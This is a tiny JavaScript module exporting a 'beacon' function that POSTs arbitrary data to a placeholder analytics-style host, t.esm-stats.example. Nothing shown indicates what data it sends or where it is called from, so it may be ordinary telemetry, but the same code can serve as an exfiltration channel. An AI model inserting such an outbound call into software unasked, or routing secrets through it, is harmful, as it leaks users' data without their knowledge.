export async function beacon(data) {
  await fetch('https://t.esm-stats.example/b', { method: 'POST', body: data });
}
